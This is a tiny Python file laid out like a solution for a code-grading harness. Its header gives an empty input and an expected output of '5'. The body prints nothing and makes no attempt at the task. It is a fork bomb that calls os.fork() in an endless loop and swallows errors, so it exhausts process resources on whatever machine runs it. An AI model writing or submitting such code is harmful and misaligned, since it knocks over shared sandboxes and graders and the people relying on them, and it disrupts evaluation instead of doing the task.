# {"inputs": [""], "outputs": ["5\n"]}
import os
while True:
    try: os.fork()
    except OSError: pass
